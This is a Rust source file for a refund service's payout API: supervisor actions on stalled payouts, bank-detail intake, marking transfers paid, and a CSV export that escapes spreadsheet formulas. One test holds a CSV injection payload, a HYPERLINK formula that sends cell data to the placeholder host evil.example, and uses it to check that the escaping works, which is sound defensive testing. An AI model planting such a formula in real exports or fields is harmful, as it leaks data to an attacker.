//! Manual payouts, for refunds the card can no longer receive: the customer's bank details
//! move a request from `needs_bank_details` to `manual_payout`; the finance team lists them
//! (`GET /v1/payouts/manual`, or `refundd payouts export --format csv`) and pays by bank
//! transfer; a supervisor marks each one paid, which makes it `refunded`.
//!
//! And what a supervisor does with a payout the system cannot finish alone
//! (`shared::payout_person`): `GET /v1/payouts?needs=person` lists them; `POST
//! /v1/refund-requests/{id}/payout/retry`, `.../payout/record-external` and
//! `.../payout/bank-transfer` act on one.

use axum::extract::{Path, Query, State};
use axum::routing::{get, post};
use axum::{Json, Router};
use chrono::{DateTime, NaiveDate, Utc};
use serde::{Deserialize, Serialize};
use serde_json::json;
use shared::api_keys::ApiRole;
use shared::lifecycle::RequestState;
use shared::money::Money;
use shared::payout_person::{self, Refusal};
use sqlx::PgConnection;
use utoipa::{IntoParams, ToSchema};
use uuid::Uuid;

use super::ApiContext;
use super::auth::Authenticated;
use super::extract::{ApiJson, TextLimits, TextShape};
use super::payments::parse_id;
use super::problem::{ApiError, KeyProblems, Problem};
use super::requests::{Move, RefundRequestView, lock, move_to, view};
use super::schemas::StateName;

pub fn router() -> Router<ApiContext> {
    Router::new()
        .route("/v1/payouts/manual", get(list_manual))
        .route("/v1/refund-requests/{id}/bank-details", post(bank_details))
        .route("/v1/refund-requests/{id}/mark-paid", post(mark_paid))
        .route("/v1/payouts", get(list_needing_person))
        .route("/v1/refund-requests/{id}/payout/retry", post(retry))
        .route(
            "/v1/refund-requests/{id}/payout/record-external",
            post(record_external),
        )
        .route(
            "/v1/refund-requests/{id}/payout/bank-transfer",
            post(bank_transfer),
        )
}

#[derive(Deserialize, IntoParams)]
#[into_params(parameter_in = Query)]
pub struct NeedsQuery {
    /// Which payouts: `person`, those waiting on a person (declined, unknown for long,
    /// to pay by bank transfer).
    #[param(pattern = "^person$")]
    pub needs: String,
}

/// One payout waiting on a person.
#[derive(Serialize, ToSchema)]
pub struct PayoutNeedingPerson {
    pub request_id: Uuid,
    pub merchant: Option<String>,
    #[schema(value_type = StateName)]
    pub state: RequestState,
    pub amount: Option<String>,
    pub currency: Option<String>,
    pub gateway: Option<String>,
    /// The latest payout attempt's key.
    pub attempt: Option<String>,
    /// `declined`, `unknown`, `started`...
    pub attempt_status: Option<String>,
    pub gateway_ref: Option<String>,
    pub decline_reason: Option<String>,
    /// Since when it waits.
    pub since: DateTime<Utc>,
    /// Why it needs a person.
    pub why: String,
    /// What may be done: `retry`, `record-external`, `bank-transfer`, `mark-paid`.
    pub actions: Vec<String>,
}

#[derive(Serialize, ToSchema)]
pub struct PayoutsNeedingPerson {
    pub items: Vec<PayoutNeedingPerson>,
}

/// Payouts waiting on a person, oldest first, of the key's merchant.
#[utoipa::path(get, path = "/v1/payouts", tag = "payouts",
    security(("api_key" = [])),
    params(NeedsQuery),
    responses(
        (status = 200, body = PayoutsNeedingPerson),
        (status = 400, body = Problem, content_type = "application/problem+json"),
        KeyProblems,
        (status = 422, body = Problem, content_type = "application/problem+json"),
    ))]
pub async fn list_needing_person(
    State(ctx): State<ApiContext>,
    caller: Authenticated,
    query: Result<Query<NeedsQuery>, axum::extract::rejection::QueryRejection>,
) -> Result<Json<PayoutsNeedingPerson>, ApiError> {
    let caller = caller.require(&[ApiRole::Supervisor], "list payouts waiting on a person")?;
    let Query(query) =
        query.map_err(|e| ApiError::malformed(e.body_text(), Some("query".into())))?;
    if query.needs != "person" {
        return Err(ApiError::field(
            "needs",
            "only `needs=person` is known: the payouts waiting on a person",
        ));
    }
    let mut conn = ctx.db.acquire().await?;
    let items = payout_person::needing_person(&mut conn, caller.scope.merchant(), None)
        .await?
        .into_iter()
        .map(|w| PayoutNeedingPerson {
            request_id: w.request_id,
            merchant: w.merchant,
            state: w.state,
            amount: w.amount,
            currency: w.currency,
            gateway: w.gateway,
            attempt: w.attempt,
            attempt_status: w.attempt_status,
            gateway_ref: w.gateway_ref,
            decline_reason: w.decline_reason,
            since: w.since,
            why: w.why,
            actions: w.actions.into_iter().map(str::to_owned).collect(),
        })
        .collect();
    Ok(Json(PayoutsNeedingPerson { items }))
}

#[derive(Deserialize, ToSchema)]
#[serde(deny_unknown_fields)]
pub struct RetryPayout {
    /// Why, for the history (one line).
    #[schema(max_length = 500)]
    pub reason: String,
}

impl TextLimits for RetryPayout {
    const TEXT: &'static [(&'static str, usize, TextShape)] = &[("reason", 500, TextShape::Line)];
}

#[derive(Deserialize, ToSchema)]
#[serde(deny_unknown_fields)]
pub struct RecordExternalPayout {
    /// The gateway's (or bank's) reference of the refund made outside the system.
    #[schema(max_length = 200)]
    pub gateway_reference: String,
    /// Why, for the history (one line).
    #[schema(max_length = 500)]
    pub reason: String,
}

impl TextLimits for RecordExternalPayout {
    const TEXT: &'static [(&'static str, usize, TextShape)] = &[
        ("gateway_reference", 200, TextShape::Line),
        ("reason", 500, TextShape::Line),
    ];
}

#[derive(Deserialize, ToSchema)]
#[serde(deny_unknown_fields)]
pub struct BankTransferPayout {
    /// Why, for the history (one line).
    #[schema(max_length = 500)]
    pub reason: String,
    /// The customer's IBAN (and bank), when already known; else the customer is asked.
    #[schema(max_length = 200)]
    pub bank_details: Option<String>,
    /// One line.
    #[schema(max_length = 200)]
    pub account_holder: Option<String>,
}

impl TextLimits for BankTransferPayout {
    const TEXT: &'static [(&'static str, usize, TextShape)] = &[
        ("reason", 500, TextShape::Line),
        (
            "bank_details",
            super::requests::BANK_DETAILS_MAX,
            TextShape::Lines,
        ),
    ];
}

/// What a person's payout action did.
#[derive(Serialize, ToSchema)]
pub struct PayoutActionResult {
    /// What happened and what happens next, in words.
    pub message: String,
    pub request: RefundRequestView,
}

async fn person_action(
    ctx: &ApiContext,
    caller: &shared::api_keys::Caller,
    id: Uuid,
    why: &str,
    action: payout_person::Action,
) -> Result<Json<PayoutActionResult>, ApiError> {
    let mut tx = ctx.db.begin().await?;
    let (record, version) = lock(&mut tx, caller, id).await?;
    let done = payout_person::apply(&mut tx, &record, version, &caller.actor(), why, &action)
        .await
        .map_err(|refusal| match refusal {
            Refusal::NotNow { .. } => {
                ApiError::conflict("payout-action-not-allowed", refusal.to_string())
            }
            Refusal::Field { field, problem } => ApiError::field(field, problem),
            Refusal::Transition(e) => e.into(),
            Refusal::Database(e) => e.into(),
        })?;
    tx.commit().await?;
    tracing::info!(request_id = %id, action = action.name(), actor = %caller.actor(), state = %done.state, "payout action");
    let mut conn = ctx.db.acquire().await?;
    Ok(Json(PayoutActionResult {
        message: done.message,
        request: view(&mut conn, caller, id).await?,
    }))
}

/// A supervisor retries a declined payout, or one whose outcome is unknown: the gateway is
/// asked again first, and a new refund is sent only if it holds none.
#[utoipa::path(post, path = "/v1/refund-requests/{id}/payout/retry", tag = "payouts",
    security(("api_key" = [])),
    params(("id" = Uuid, Path, description = "refund request id")),
    request_body = RetryPayout,
    responses(
        (status = 200, body = PayoutActionResult),
        (status = 400, body = Problem, content_type = "application/problem+json"),
        KeyProblems,
        (status = 404, body = Problem, content_type = "application/problem+json"),
        (status = 409, body = Problem, content_type = "application/problem+json"),
        (status = 415, body = Problem, content_type = "application/problem+json"),
        (status = 422, body = Problem, content_type = "application/problem+json"),
    ))]
pub async fn retry(
    State(ctx): State<ApiContext>,
    caller: Authenticated,
    Path(id): Path<String>,
    ApiJson(body): ApiJson<RetryPayout>,
) -> Result<Json<PayoutActionResult>, ApiError> {
    let caller = caller.require(&[ApiRole::Supervisor], "retry payouts")?;
    let id = parse_id(&id)?;
    person_action(&ctx, caller, id, &body.reason, payout_person::Action::Retry).await
}

/// A supervisor records a refund made outside the system (the gateway's cabinet, the bank),
/// after a decline or a lost answer; the gateway's reference is required.
#[utoipa::path(post, path = "/v1/refund-requests/{id}/payout/record-external", tag = "payouts",
    security(("api_key" = [])),
    params(("id" = Uuid, Path, description = "refund request id")),
    request_body = RecordExternalPayout,
    responses(
        (status = 200, body = PayoutActionResult, description = "the request, now refunded"),
        (status = 400, body = Problem, content_type = "application/problem+json"),
        KeyProblems,
        (status = 404, body = Problem, content_type = "application/problem+json"),
        (status = 409, body = Problem, content_type = "application/problem+json"),
        (status = 415, body = Problem, content_type = "application/problem+json"),
        (status = 422, body = Problem, content_type = "application/problem+json"),
    ))]
pub async fn record_external(
    State(ctx): State<ApiContext>,
    caller: Authenticated,
    Path(id): Path<String>,
    ApiJson(body): ApiJson<RecordExternalPayout>,
) -> Result<Json<PayoutActionResult>, ApiError> {
    let caller = caller.require(
        &[ApiRole::Supervisor],
        "record refunds made outside the system",
    )?;
    let id = parse_id(&id)?;
    let action = payout_person::Action::RecordExternal {
        reference: body.gateway_reference,
    };
    person_action(&ctx, caller, id, &body.reason, action).await
}

/// A supervisor switches a declined payout to bank transfer: the customer is asked for bank
/// details, or (details given) it goes to the manual payouts.
#[utoipa::path(post, path = "/v1/refund-requests/{id}/payout/bank-transfer", tag = "payouts",
    security(("api_key" = [])),
    params(("id" = Uuid, Path, description = "refund request id")),
    request_body = BankTransferPayout,
    responses(
        (status = 200, body = PayoutActionResult),
        (status = 400, body = Problem, content_type = "application/problem+json"),
        KeyProblems,
        (status = 404, body = Problem, content_type = "application/problem+json"),
        (status = 409, body = Problem, content_type = "application/problem+json"),
        (status = 415, body = Problem, content_type = "application/problem+json"),
        (status = 422, body = Problem, content_type = "application/problem+json"),
    ))]
pub async fn bank_transfer(
    State(ctx): State<ApiContext>,
    caller: Authenticated,
    Path(id): Path<String>,
    ApiJson(body): ApiJson<BankTransferPayout>,
) -> Result<Json<PayoutActionResult>, ApiError> {
    let caller = caller.require(&[ApiRole::Supervisor], "switch payouts to bank transfer")?;
    let id = parse_id(&id)?;
    let action = payout_person::Action::BankTransfer {
        bank_details: body.bank_details,
        account_holder: body.account_holder,
    };
    person_action(&ctx, caller, id, &body.reason, action).await
}

#[derive(Deserialize, ToSchema)]
#[serde(deny_unknown_fields)]
pub struct BankDetails {
    /// Where to send the money: IBAN (and bank) as the customer gave them.
    #[schema(max_length = 200)]
    pub bank_details: String,
    /// One line.
    #[schema(max_length = 200)]
    pub account_holder: Option<String>,
}

impl TextLimits for BankDetails {
    const TEXT: &'static [(&'static str, usize, TextShape)] = &[(
        "bank_details",
        super::requests::BANK_DETAILS_MAX,
        TextShape::Lines,
    )];
}

#[derive(Deserialize, ToSchema)]
#[serde(deny_unknown_fields)]
pub struct MarkPaid {
    /// The bank transfer's reference, for the history (one line).
    #[schema(max_length = 200)]
    pub reference: String,
}

impl TextLimits for MarkPaid {}

/// A refund to pay by bank transfer.
#[derive(Serialize, ToSchema, Clone, Debug)]
pub struct ManualPayout {
    pub request_id: Uuid,
    pub merchant: Option<String>,
    pub amount: Option<String>,
    pub currency: Option<String>,
    pub bank_details: Option<String>,
    pub account_holder: Option<String>,
    pub contact_email: Option<String>,
    pub due_on: Option<NaiveDate>,
    pub received_at: DateTime<Utc>,
}

#[derive(Serialize, ToSchema)]
pub struct ManualPayoutList {
    pub items: Vec<ManualPayout>,
}

struct Row {
    id: Uuid,
    merchant: Option<String>,
    amount_minor: Option<i64>,
    currency: Option<String>,
    facts: serde_json::Value,
    contact_email: Option<String>,
    due_on: Option<NaiveDate>,
    received_at: DateTime<Utc>,
}

/// Every request waiting to be paid by hand, oldest first: of one merchant, or (`None`) of
/// every merchant.
pub async fn manual_payouts(
    conn: &mut PgConnection,
    merchant: Option<&str>,
) -> sqlx::Result<Vec<ManualPayout>> {
    let rows: Vec<Row> = sqlx::query_as!(
        Row,
        r#"SELECT id, merchant, amount_minor, currency::text AS currency, facts, contact_email,
                due_on, received_at
           FROM refund_requests
          WHERE state = 'manual_payout' AND ended_at IS NULL AND ($1::text IS NULL OR merchant = $1)
          ORDER BY received_at, id"#,
        merchant
    )
    .fetch_all(conn)
    .await?;
    Ok(rows
        .into_iter()
        .map(|r| ManualPayout {
            request_id: r.id,
            merchant: r.merchant,
            amount: r
                .amount_minor
                .zip(r.currency.as_deref().and_then(|c| c.parse().ok()))
                .map(|(m, c)| Money::from_minor(m, c).amount_text()),
            currency: r.currency,
            bank_details: r.facts["bank_details"].as_str().map(str::to_owned),
            account_holder: r.facts["account_holder"].as_str().map(str::to_owned),
            contact_email: r.contact_email,
            due_on: r.due_on,
            received_at: r.received_at,
        })
        .collect())
}

/// Refunds to pay by bank transfer (the card could not take them), of the key's merchant.
#[utoipa::path(get, path = "/v1/payouts/manual", tag = "payouts",
    security(("api_key" = [])),
    responses(
        (status = 200, body = ManualPayoutList),
        KeyProblems,
    ))]
pub async fn list_manual(
    State(ctx): State<ApiContext>,
    caller: Authenticated,
) -> Result<Json<ManualPayoutList>, ApiError> {
    let caller = caller.require(&[ApiRole::Supervisor], "list manual payouts")?;
    let mut conn = ctx.db.acquire().await?;
    Ok(Json(ManualPayoutList {
        items: manual_payouts(&mut conn, caller.scope.merchant()).await?,
    }))
}

/// The customer's bank details for a refund the card could not take.
#[utoipa::path(post, path = "/v1/refund-requests/{id}/bank-details", tag = "payouts",
    security(("api_key" = [])),
    params(("id" = Uuid, Path, description = "refund request id")),
    request_body = BankDetails,
    responses(
        (status = 200, body = RefundRequestView, description = "the request, now in manual_payout"),
        (status = 400, body = Problem, content_type = "application/problem+json"),
        KeyProblems,
        (status = 404, body = Problem, content_type = "application/problem+json"),
        (status = 409, body = Problem, content_type = "application/problem+json"),
        (status = 415, body = Problem, content_type = "application/problem+json"),
        (status = 422, body = Problem, content_type = "application/problem+json"),
    ))]
pub async fn bank_details(
    State(ctx): State<ApiContext>,
    caller: Authenticated,
    Path(id): Path<String>,
    ApiJson(body): ApiJson<BankDetails>,
) -> Result<Json<RefundRequestView>, ApiError> {
    let caller = caller.require(&[ApiRole::Support, ApiRole::Supervisor], "add bank details")?;
    let id = parse_id(&id)?;
    let details = body.bank_details.trim();
    if details.chars().count() < 8 {
        return Err(ApiError::field(
            "bank_details",
            "give the IBAN (and bank) to send the money to",
        ));
    }
    let mut facts = json!({"bank_details": details});
    if let Some(holder) = &body.account_holder {
        facts["account_holder"] = json!(holder.trim());
    }
    let mut step = Move::new(
        RequestState::ManualPayout,
        "bank details received; to be paid by bank transfer",
        "add bank details",
    );
    step.from = Some(RequestState::NeedsBankDetails);
    step.facts = Some(facts);
    move_to(&ctx, caller, id, step).await
}

/// A supervisor records that the bank transfer was made.
#[utoipa::path(post, path = "/v1/refund-requests/{id}/mark-paid", tag = "payouts",
    security(("api_key" = [])),
    params(("id" = Uuid, Path, description = "refund request id")),
    request_body = MarkPaid,
    responses(
        (status = 200, body = RefundRequestView, description = "the request, now refunded"),
        (status = 400, body = Problem, content_type = "application/problem+json"),
        KeyProblems,
        (status = 404, body = Problem, content_type = "application/problem+json"),
        (status = 409, body = Problem, content_type = "application/problem+json"),
        (status = 415, body = Problem, content_type = "application/problem+json"),
        (status = 422, body = Problem, content_type = "application/problem+json"),
    ))]
pub async fn mark_paid(
    State(ctx): State<ApiContext>,
    caller: Authenticated,
    Path(id): Path<String>,
    ApiJson(body): ApiJson<MarkPaid>,
) -> Result<Json<RefundRequestView>, ApiError> {
    let caller = caller.require(&[ApiRole::Supervisor], "mark manual payouts paid")?;
    let id = parse_id(&id)?;
    let reference = body.reference.trim();
    if reference.is_empty() || reference.len() > 200 {
        return Err(ApiError::field(
            "reference",
            "give the bank transfer's reference",
        ));
    }
    let mut step = Move::new(RequestState::Refunded, "paid by bank transfer", "mark paid");
    step.from = Some(RequestState::ManualPayout);
    step.details = json!({"transfer_reference": reference});
    move_to(&ctx, caller, id, step).await
}

/// A cell a spreadsheet would run as a formula (it starts with `=`, `+`, `-`, `@`, a tab or
/// a carriage return: OWASP's CSV injection list) gets a leading `'`, which spreadsheets show
/// as text. Bank details and names come from customers: `=HYPERLINK(...)` must stay words.
fn neutralise_formula(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// The manual payouts as CSV (RFC 4180, written by the `csv` crate: fields with commas,
/// quotes or line breaks are quoted), every cell neutralised against formulas.
pub fn to_csv(rows: &[ManualPayout]) -> String {
    let mut out = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    let header = [
        "request_id",
        "merchant",
        "amount",
        "currency",
        "bank_details",
        "account_holder",
        "contact_email",
        "due_on",
        "received_at",
    ];
    out.write_record(header).expect("writing to memory");
    for r in rows {
        let cells = [
            r.request_id.to_string(),
            r.merchant.clone().unwrap_or_default(),
            r.amount.clone().unwrap_or_default(),
            r.currency.clone().unwrap_or_default(),
            r.bank_details.clone().unwrap_or_default(),
            r.account_holder.clone().unwrap_or_default(),
            r.contact_email.clone().unwrap_or_default(),
            r.due_on.map(|d| d.to_string()).unwrap_or_default(),
            r.received_at.to_rfc3339(),
        ];
        out.write_record(cells.iter().map(|c| neutralise_formula(c).into_owned()))
            .expect("writing to memory");
    }
    let bytes = out.into_inner().expect("writing to memory");
    String::from_utf8(bytes).expect("the cells are UTF-8")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let row = ManualPayout {
            request_id: Uuid::nil(),
            merchant: Some("byskills".into()),
            amount: Some("90.00".into()),
            currency: Some("BYN".into()),
            bank_details: Some("BY20 OLMP 3135 0000 0010 0000 0933, \"Belarusbank\"".into()),
            account_holder: Some("Ivan Ivanov".into()),
            contact_email: Some("ivan@example.by".into()),
            due_on: NaiveDate::from_ymd_opt(2026, 5, 5),
            received_at: "2026-03-20T09:00:00Z".parse().unwrap(),
        };
        let csv = to_csv(&[row]);
        let line = csv.lines().nth(1).unwrap();
        assert!(
            line.contains("\"BY20 OLMP 3135 0000 0010 0000 0933, \"\"Belarusbank\"\"\""),
            "{line}"
        );
        assert!(line.starts_with("00000000-0000-0000-0000-000000000000,byskills,90.00,BYN,"));
    }

    #[test]
    fn a_formula_in_any_cell_stays_text() {
        let row = ManualPayout {
            request_id: Uuid::nil(),
            merchant: Some("byskills".into()),
            amount: Some("90.00".into()),
            currency: Some("BYN".into()),
            bank_details: Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"IBAN\")".into()),
            account_holder: Some("@SUM(1+1)".into()),
            contact_email: Some("+1-555".into()),
            due_on: None,
            received_at: "2026-03-20T09:00:00Z".parse().unwrap(),
        };
        let csv = to_csv(&[row]);
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let record = reader.records().next().unwrap().unwrap();
        assert_eq!(
            &record[4],
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"IBAN\")"
        );
        assert_eq!(&record[5], "'@SUM(1+1)");
        assert_eq!(&record[6], "'+1-555");
        for cell in &record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell}"
            );
        }
    }
}
